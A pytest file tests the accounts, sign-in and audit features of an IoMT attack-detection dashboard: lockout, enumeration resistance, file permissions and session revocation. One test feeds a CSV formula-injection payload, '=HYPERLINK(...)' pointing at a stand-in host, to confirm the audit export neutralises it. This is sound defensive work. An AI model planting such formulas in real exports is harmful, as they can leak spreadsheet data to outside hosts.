"""Accounts, sign-in and the Audit page against damaged or exposed accounts files, an account removed while signed
in, an audit log that cannot be written and hostile audit lines: each test failed before its fix."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys

import pytest
import yaml

from core import audit
from dashboard.accounts import AccountsError, add_user, load, remove_user
from tests.conftest import ROOT
from tests.dashboard import test_auth
from tests.dashboard.test_auth import PASSWORD, app, sign_in, titles

address, accounts, env = test_auth.address, test_auth.accounts, test_auth.env  # the same fixtures

HASH = "$2b$12$" + "a" * 53
COOKIE = {"name": "c", "key": "k" * 64, "expiry_days": 1}
ALICE = {"usernames": {"alice": {"password": HASH}}}


def _write(path, text: str, mode: int = 0o600) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    os.chmod(path, mode)


DAMAGED = {
    "not a mapping": "just some text\n",
    "a list": "- alice\n- bob\n",
    "credentials a list": "credentials: [alice]\n",
    "usernames a list": "credentials:\n  usernames: [alice]\n",
    "a user a string": yaml.safe_dump({"cookie": COOKIE, "credentials": {"usernames": {"alice": HASH}}}),
    "cookie a string": yaml.safe_dump({"cookie": "x", "credentials": {"usernames": {"alice": {"password": HASH}}}}),
    "expiry not a number": yaml.safe_dump({"cookie": {**COOKIE, "expiry_days": "one"}, "credentials": ALICE}),
}


@pytest.mark.parametrize("case", DAMAGED)
def test_a_damaged_accounts_file_is_explained_not_a_traceback(accounts, case):
    """load() and add_user() raised AttributeError/TypeError (a traceback on the sign-in page and in the tool)."""
    _write(accounts, DAMAGED[case])
    with pytest.raises(AccountsError, match=str(accounts)):
        load(accounts)
    before = accounts.read_bytes()
    try:
        add_user("bob", PASSWORD, path=accounts)
    except AccountsError as exc:
        assert str(accounts) in str(exc)
        assert accounts.read_bytes() == before  # refused, not overwritten: the other accounts are not lost
    else:
        assert case in ("a user a string", "expiry not a number")  # readable: bob is added beside the damaged entry
        assert "bob" in yaml.safe_load(accounts.read_text())["credentials"]["usernames"]


@pytest.mark.parametrize("data", [b"\xff\xfe\x00junk", b"credentials: {\n", b"\x00"])
def test_an_accounts_file_that_is_not_yaml_or_not_text(accounts, data):
    accounts.parent.mkdir()
    accounts.write_bytes(data)
    os.chmod(accounts, 0o600)
    for call in (lambda: load(accounts), lambda: add_user("bob", PASSWORD, path=accounts)):
        with pytest.raises(AccountsError, match=str(accounts)):
            call()
    assert accounts.read_bytes() == data


def test_network_mode_with_a_damaged_accounts_file_explains_it(address, accounts, env):
    _write(accounts, DAMAGED["usernames a list"])
    address("0.0.0.0")
    at = app()  # raised AttributeError: 'list' object has no attribute 'items'
    assert "is not an accounts file" in at.error[0].value and not at.text_input


def test_a_cookie_without_a_name_still_signs_in(address, accounts, env):
    """The page read config["cookie"]["name"]: a hand-written file without it was a KeyError."""
    _write(accounts, yaml.safe_dump({"cookie": {"key": "k" * 64},
                                     "credentials": {"usernames": {"alice": {"password": HASH}}}}))  # fmt: skip
    add_user("alice", PASSWORD, path=accounts)
    address("0.0.0.0")
    at = sign_in(app(), "alice", PASSWORD)
    assert "IoMT attack detection" in titles(at)


def test_an_accounts_file_open_to_other_users_is_refused(accounts):
    """Anyone who can read the cookie key can sign a cookie as any user (no password); anyone who can write the file
    can add an account. A file copied in with mode 644 or 666 was accepted."""
    add_user("alice", PASSWORD, path=accounts)
    for mode in (0o644, 0o640, 0o606, 0o666):
        os.chmod(accounts, mode)
        with pytest.raises(AccountsError, match=rf"mode {mode:o}.*chmod 600 {accounts}"):
            load(accounts)
    kw = dict(cwd=ROOT, capture_output=True, text=True, timeout=60, env={**os.environ})
    out = subprocess.run([sys.executable, "-m", "dashboard.accounts", "check"], **kw)
    assert out.returncode == 2 and "chmod 600" in out.stderr and "Traceback" not in out.stderr
    add_user("bob", PASSWORD, path=accounts)  # rewriting the file makes it private again
    assert stat.S_IMODE(accounts.stat().st_mode) == 0o600 and load(accounts)


def test_remove_takes_the_name_as_add_does(accounts):
    add_user(" Carol", PASSWORD, path=accounts)
    add_user("dave", PASSWORD, path=accounts)
    remove_user("Carol ", path=accounts)  # "no account named 'Carol '"
    assert list(load(accounts)["credentials"]["usernames"]) == ["dave"]


def test_an_account_removed_while_signed_in_is_signed_out(address, accounts, env):
    """Removing an account (someone who left) did not end their open session: every page stayed theirs until they
    signed out themselves."""
    add_user("alice", PASSWORD, path=accounts)
    add_user("bob", PASSWORD, path=accounts)
    address("0.0.0.0")
    at = sign_in(app(), "alice", PASSWORD)
    assert "IoMT attack detection" in titles(at)
    at.session_state["train_job"] = "alice's run"
    remove_user("alice", path=accounts)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    assert "IoMT attack detection" not in titles(at) and [t.label for t in at.text_input] == ["User name", "Password"]
    assert not at.session_state["authentication_status"] and "train_job" not in at.session_state
    signed_out, signed_in = audit.read_events(env / "audit")
    assert (signed_out["action"], signed_out["user"]) == ("signed out", "alice")
    assert signed_out["details"] == {"reason": "account removed"} and signed_in["action"] == "signed in"
    sign_in(at, "alice", PASSWORD)  # and cannot sign in again
    assert "IoMT attack detection" not in titles(at)
    sign_in(at, "bob", PASSWORD)
    assert "IoMT attack detection" in titles(at) and at.session_state["username"] == "bob"


def test_an_audit_log_that_cannot_be_written_is_said(address, env, tmp_path, monkeypatch):
    """The command line warned; the dashboard lost every event without a word."""
    (tmp_path / "blocker").write_text("a file where the audit folder should be")
    monkeypatch.setenv("IOMT_AUDIT_DIR", str(tmp_path / "blocker" / "audit"))
    at = test_auth.delete_a_model_on_the_models_page(address, env, tmp_path)
    shown = " ".join(t.value for t in at.toast)
    assert "not recorded in the audit log" in shown and "IOMT_AUDIT_DIR" in shown and "blocker" in shown


def test_audit_download_neutralises_formulas(address, env):
    """The CSV download of the Audit page wrote a file named '=HYPERLINK(...)' as a live spreadsheet formula."""
    from dashboard.views.audit import events_csv, events_frame

    events = [audit.record("scored", user="alice", folder=env / "audit", model="@SUM(A1)",
                           files=[audit.file_info('=HYPERLINK("http://x.example/?"&A1)', b"1,2\n")])]  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(events_csv(events_frame(events)).decode())))
    assert rows[0]["files"].startswith("'=HYPERLINK(") and rows[0]["model"] == "'@SUM(A1)"
    assert rows[0]["user"] == "alice"


def test_audit_page_survives_hostile_lines(address, env):
    """A "\\udcff" escape crashed the page (the CSV could not be encoded); a line break inside a name split events."""
    address("127.0.0.1")
    folder = env / "audit"
    audit.record("scored", user="alice", model="rf-6", folder=folder, files=[audit.file_info("a\u2028b.csv", b"x")])
    with open(next(folder.glob("audit-*.jsonl")), "a") as fh:
        fh.write('{"action": "deleted", "model": "x\\udcff"}\n')
    at = app()
    at.switch_page("views/audit.py").run()
    assert not at.exception, [e.message for e in at.exception]
    table = at.dataframe[0].value
    assert list(table["action"]) == ["unreadable", "scored"] and "a\u2028b.csv" in table["files"][1]


def test_failed_sign_ins_are_audited_once_each(address, accounts, env):
    """Password guessing left no trace: only successful sign-ins were recorded. Now each failed attempt is one event
    naming the account tried (or none, for a name with no account), never the text typed."""
    add_user("alice", PASSWORD, path=accounts)
    address("0.0.0.0")
    at = app()
    sign_in(at, "alice", "wrong password!!")
    sign_in(at, PASSWORD, "x")  # a password typed into the user name field
    assert any("Wrong user name or password" in e.value for e in at.error)
    at.run()  # a rerun without a new attempt: no new event, the message stays
    assert any("Wrong user name or password" in e.value for e in at.error)
    sign_in(at, "alice", "wrong again!!!!")
    sign_in(at, "alice", PASSWORD)
    assert "IoMT attack detection" in titles(at) and not any("Wrong" in e.value for e in at.error)
    events = [
        (e["action"], e["user"], (e.get("details") or {}).get("account")) for e in audit.read_events(env / "audit")
    ]
    assert events[::-1] == [("sign-in failed", None, "alice"), ("sign-in failed", None, None),
                            ("sign-in failed", None, "alice"), ("signed in", "alice", None)]  # fmt: skip
    assert PASSWORD not in " ".join(p.read_text() for p in (env / "audit").glob("*.jsonl"))


def test_sign_in_to_an_account_is_paused_after_failed_attempts_in_a_row(address, accounts, env, monkeypatch):
    """Nothing slowed password guessing: any number of attempts, each answered at once. Now an account's sign-in is
    paused after SIGN_IN_ATTEMPTS failures in a row (the right password is refused, unchecked, meanwhile), other
    accounts are not affected, the pause ends after SIGN_IN_PAUSE_S, and each refusal is audited."""
    from dashboard import auth

    clock = [1_000_000.0]
    monkeypatch.setattr(auth, "_clock", lambda: clock[0])
    monkeypatch.setattr(auth, "SIGN_IN_ATTEMPTS", 3)
    add_user("alice", PASSWORD, path=accounts)
    add_user("bob", PASSWORD, path=accounts)
    address("0.0.0.0")
    at = app()
    for _ in range(3):
        sign_in(at, "alice", "wrong password!!")
    assert any("Wrong user name or password" in e.value for e in at.error)
    sign_in(at, "alice", PASSWORD)
    assert "IoMT attack detection" not in titles(at)
    assert any("paused for 15 minutes after 3 failed attempts in a row" in e.value for e in at.error)
    assert not any("Wrong user name" in e.value for e in at.error)
    assert "IoMT attack detection" in titles(sign_in(app(), "bob", PASSWORD))  # another account signs in
    clock[0] += auth.SIGN_IN_PAUSE_S - 1
    assert "IoMT attack detection" not in titles(sign_in(app(), "alice", PASSWORD))
    clock[0] += 1
    assert "IoMT attack detection" in titles(sign_in(app(), "alice", PASSWORD))
    events = [(e["action"], e["user"], e.get("details") or {}) for e in audit.read_events(env / "audit")][::-1]
    assert events == [
        ("sign-in failed", None, {"account": "alice"}),
        ("sign-in failed", None, {"account": "alice"}),
        ("sign-in failed", None, {"account": "alice", "paused_minutes": 15}),
        ("sign-in refused", None, {"account": "alice", "reason": "paused after 3 failed sign-ins"}),
        ("signed in", "bob", {}),
        ("sign-in refused", None, {"account": "alice", "reason": "paused after 3 failed sign-ins"}),
        ("signed in", "alice", {}),
    ]


def test_the_answers_to_sign_in_do_not_tell_which_accounts_exist(address, accounts, env, monkeypatch):
    """A name with no account was never paused (so a sixth try told that an account exists) and its password was
    never checked (so its answer came a bcrypt check sooner). Now it is answered as an account's wrong password is:
    the same message, one bcrypt check each, the same pause, audited without the name typed."""
    import bcrypt

    from dashboard import auth

    checks = []
    real = bcrypt.checkpw

    def counted(password, hashed):  # the real check, counted
        checks.append(hashed)
        return real(password, hashed)

    monkeypatch.setattr(bcrypt, "checkpw", counted)
    monkeypatch.setattr(auth, "SIGN_IN_ATTEMPTS", 2)
    add_user("alice", PASSWORD, path=accounts)
    address("0.0.0.0")
    answers = {}
    for user in ("alice", "mallory"):
        at, seen = app(), []
        for _ in range(3):
            del checks[:]
            sign_in(at, user, "wrong password!!")
            seen.append(([e.value for e in at.error], len(checks)))
        answers[user] = seen
    assert answers["alice"] == answers["mallory"]
    (wrong, one), (wrong_again, one_again), (paused, none) = answers["mallory"]
    assert wrong == wrong_again == ["Wrong user name or password."] and one == one_again == 1
    assert "paused for 15 minutes after 2 failed attempts" in paused[0] and none == 0
    events = [(e["action"], (e.get("details") or {}).get("account")) for e in audit.read_events(env / "audit")][::-1]
    assert events == 2 * [("sign-in failed", "alice")] + [("sign-in refused", "alice")] + 2 * [
        ("sign-in failed", None)] + [("sign-in refused", None)]  # fmt: skip
    assert "mallory" not in " ".join(p.read_text() for p in (env / "audit").glob("*.jsonl"))
